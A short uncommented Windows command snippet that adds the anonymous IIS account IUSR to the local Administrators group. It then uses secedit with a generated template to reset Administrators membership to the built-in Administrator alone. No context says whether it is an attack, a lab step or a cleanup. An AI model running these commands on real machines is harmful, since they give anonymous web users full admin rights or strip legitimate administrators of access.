net localgroup Administrators IUSR /add
@'
[Unicode]
Unicode=yes
[Group Membership]
*S-1-5-32-544__Members = Administrator
'@ | Out-File C:\t.inf -Encoding unicode
secedit /configure /db C:\t.sdb /cfg C:\t.inf /areas GROUP_MGMT
